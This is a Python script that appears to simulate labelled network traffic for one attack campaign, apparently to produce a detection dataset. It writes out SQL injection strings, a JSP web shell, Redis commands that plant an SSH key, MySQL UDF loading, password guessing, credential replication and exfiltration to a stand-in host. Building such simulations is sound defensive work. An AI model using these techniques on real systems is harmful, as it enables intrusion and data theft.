"""Web intrusion with lateral movement: the office system, a tunnel, the database, the directory, and out."""

import struct

import protocols
import windows
from cases.lateral import query, redis
from packets import SECOND, Dice, Talk
from protocols import base64, request, response
from scenarios import ADMIN, BINARY, CONFIG, DATA, DIRECTORY, FILES, LINUX, OFFICE, WINDOWS

RED, DROP = "203.0.113.71", "198.51.100.93"
HOST = "oa.city.example"


def enter(city):
    """Parameters are tried, a script is uploaded and used."""
    injections = [
        "id=1%20and%20sleep(5)--",
        "id=1%20union%20select%201,2,concat(user,0x3a,password)%20from%20hr_user",
        "id=1%20and%20extractvalue(1,concat(0x7e,version()))",
    ]
    pages = [
        (
            request("GET", f"/notice/view.jsp?{text}", HOST, agent="sqlmap/1.8#stable (https://sqlmap.org)"),
            response("500 Internal Server Error", "error"),
        )
        for text in injections
    ]
    span = city.asked(300, RED, 40210, OFFICE, *pages, to_port=8080, pause=4_000_000)
    city.did(span, "T1190", "initial-access", RED, OFFICE, "SQL injected into the office system, in vain", False)
    shell = '<%@page import="java.util.*,javax.crypto.*"%><%Runtime.getRuntime().exec(request.getParameter("c"));%>'
    body = protocols.form("----q9", [("Filedata", "ln.jsp", "image/jpeg", shell)])
    ask = request(
        "POST", "/page/exportImport/uploadOperation.jsp", HOST, [("Content-Type", "multipart/form-data; boundary=----q9")], body
    )
    span = city.asked(372, RED, 40244, OFFICE, (ask, response()), to_port=8080)
    city.did(span, "T1505.003", "persistence", RED, OFFICE, "a script uploaded through uploadOperation.jsp")
    accept = [("Content-Type", BINARY), ("Accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2")]
    calls = [
        (
            request("POST", "/page/exportImport/fileTransfer/ln.jsp", HOST, accept, base64(Dice("call", n).bytes(420))),
            response(body=base64(Dice("said", n).bytes(900)), kind="text/html"),
        )
        for n in range(5)
    ]
    span = city.asked(420, RED, 40260, OFFICE, *calls, to_port=8080, pause=6_000_000)
    city.did(span, "T1505.003", "persistence", RED, OFFICE, "encrypted commands through the web shell (Behinder)")
    tunnel = "Mozilla/5.0 (Linux; Android 6.0; Nexus 5 Build/MRA58N) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.1.2.3 Mobile Safari/537.36"
    asks = request(
        "POST", "/page/exportImport/fileTransfer/t.jsp", HOST, [("Content-Type", BINARY)], Dice("suo5").bytes(200), tunnel
    )
    span = city.asked(500, RED, 40281, OFFICE, (asks, response(body=Dice("suo5-said").bytes(200), kind=BINARY)), to_port=8080)
    city.did(span, "T1572", "command-and-control", RED, OFFICE, "a tunnel through the web server (suo5)")


def move(city):
    """From the office system on."""
    start = city.T(610)
    now = start
    for last in range(1, 41):
        for port in (22, 3306, 6379):
            host = f"10.31.8.{last + 30}"
            talk = Talk(city.cloud, now, OFFICE, 42000 + last * 4 + port % 3, host, port, 900, LINUX)
            if (host, port) in ((DATA, 3306), (CONFIG, 6379), (CONFIG, 22)):
                talk.open().reset()
            elif host in (DATA, CONFIG):
                talk.refused()
            else:
                talk.unanswered()
            now += 150_000
    city.did((start, now), "T1046", "discovery", OFFICE, CONFIG, "sweep of the cloud from the office system")
    talk = city.talk(690, OFFICE, 42410, CONFIG, 6379).open()
    ok = b"+OK\r\n"
    for command in (
        redis("config", "set", "dir", "/root/.ssh"),
        redis("config", "set", "dbfilename", "authorized_keys"),
        redis("set", "k", "\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI x\n\n"),
        redis("save"),
    ):
        talk.ask(command, 700_000).answer(ok)
    city.did((city.T(690), talk.close().now), "T1098.004", "persistence", OFFICE, CONFIG, "a key written through Redis")
    talk = city.talk(760, OFFICE, 42440, DATA, 3306).open()
    greeting = b"\x0a5.7.44-log\0\x2b\0\0\0abcdefgh\0\xff\xf7\x21\x02\0\xff\x81\x15" + bytes(10) + b"ijklmnopqrst\0mysql_native_password\0"
    asks = b"\x85\xa6\xff\x01\0\0\0\x01\x21" + bytes(23) + b"root\0\x14" + Dice("mysql").bytes(20) + b"mysql_native_password\0"
    talk.answer(struct.pack("<I", len(greeting))[:3] + b"\0" + greeting)
    talk.ask(struct.pack("<I", len(asks))[:3] + b"\1" + asks).answer(b"\x07\0\0\2\0\0\0\2\0\0\0")
    for text in (
        "select unhex('7f454c4602010100') into dumpfile '/usr/lib/mysql/plugin/udf.so'",
        "create function sys_eval returns string soname 'udf.so'",
        "select sys_eval('id')",
    ):
        asks, says = query(text)
        talk.ask(asks, 2_000_000).answer(says)
    city.did((city.T(760), talk.close().now), "T1210", "lateral-movement", OFFICE, DATA, "MySQL told to load a library")
    start = city.T(840)
    smb = windows.SMBTalk(city.hall, start, OFFICE, 42490, DIRECTORY, "DC1").negotiate()
    for attempt in range(11):
        smb.talk.now += 800_000
        smb.log_in("administrator", "CITY", accepted=attempt == 10)
    smb.close()
    city.did((start, smb.talk.now), "T1110.001", "credential-access", OFFICE, DIRECTORY, "passwords guessed on the directory server, the last one fits")
    talk = city.talk(900, OFFICE, 42510, DIRECTORY, 49667, systems=WINDOWS).open()
    talk.ask(windows.bind(windows.uuid("e3514235-4b06-11d1-ab04-00c04fc2dcd2"), 4))
    talk.answer(b"\x05\0\x0c\x03\x10\0\0\0\x3c\0\0\0\1\0\0\0" + bytes(44))
    for number in range(6):
        talk.ask(windows.call(3, Dice("replicate", number).bytes(180)), 300_000).answer(Dice("secrets", number).bytes(2400))
    city.did((city.T(900), talk.close().now), "T1003.006", "credential-access", OFFICE, DIRECTORY, "accounts replicated from the directory")
    start = city.T(980)
    smb = windows.SMBTalk(city.hall, start, OFFICE, 42560, FILES).negotiate().log_in("administrator", "CITY")
    smb.connect(f"\\\\{FILES}\\C$").open("share\\contracts\\2026.docx")
    for number in range(8):
        data = Dice("contract", number).bytes(6000)
        asks = struct.pack("<HBBIQQQIIII", 49, 0x50, 0, 6000, 0, 1, 1, 0, 0, 0, 0) + b"\0"
        smb.exchange(8, asks, struct.pack("<HBBIII", 17, 80, 0, len(data), 0, 0) + data)
    smb.close()
    city.did((start, smb.talk.now), "T1021.002", "lateral-movement", OFFICE, FILES, "the file server's drive read as administrator")


def leave(city):
    """The loot leaves."""
    archive = b"PK\x03\x04\x14\0\0\0\x08\0" + Dice("loot").bytes(60000)
    asks = request("POST", "/u/oa.bin", DROP, [("Content-Type", BINARY)], archive, "Mozilla/5.0")
    talk = city.talk(1100, OFFICE, 42610, DROP, 80).open()
    talk.ask(asks).answer(response(body="ok", kind="text/plain")).close()
    city.did((city.T(1100), talk.now), "T1048.003", "exfiltration", OFFICE, DROP, "an archive sent out by the office system")


def play(city):
    """All of it, and an administrator at work."""
    city.campaign("C1", "Through the office system to the directory")
    enter(city)
    move(city)
    leave(city)
    start = city.T(700)
    protocols.ssh(Talk(city.cloud, start, ADMIN, 51400, CONFIG, 22, 2600), "typed", accepted=True)
    city.looks_bad(700, ADMIN, CONFIG, "an administrator logs in over SSH")
    city.everyday(1500)
